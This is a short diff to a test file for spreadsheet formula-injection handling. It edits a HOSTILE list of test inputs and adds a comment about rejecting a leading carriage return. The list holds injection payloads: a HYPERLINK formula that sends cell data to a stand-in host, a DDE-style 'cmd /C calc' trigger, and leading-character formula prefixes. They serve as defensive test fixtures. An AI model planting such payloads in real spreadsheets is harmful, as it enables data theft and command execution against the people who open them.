@@ -208,7 +208,9 @@ def test_an_env_file_targets_the_local_stack(
 HOSTILE = [
     ('=HYPERLINK("http://evil.example/?x="&B2,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0"),
     ("+1 Обучение пограничников", "-2+3 وزارة الداخلية"),
-    ("\t=1+1 training", "\r=2+2 ministry"),
+    # A carriage return cannot start a one-line field any more (the text rule refuses it at
+    # intake); the neutraliser still treats one (tests/unit/test_spreadsheet.py).
+    ("\t=1+1 training", "\t@2+2 ministry"),
 ]
 
 
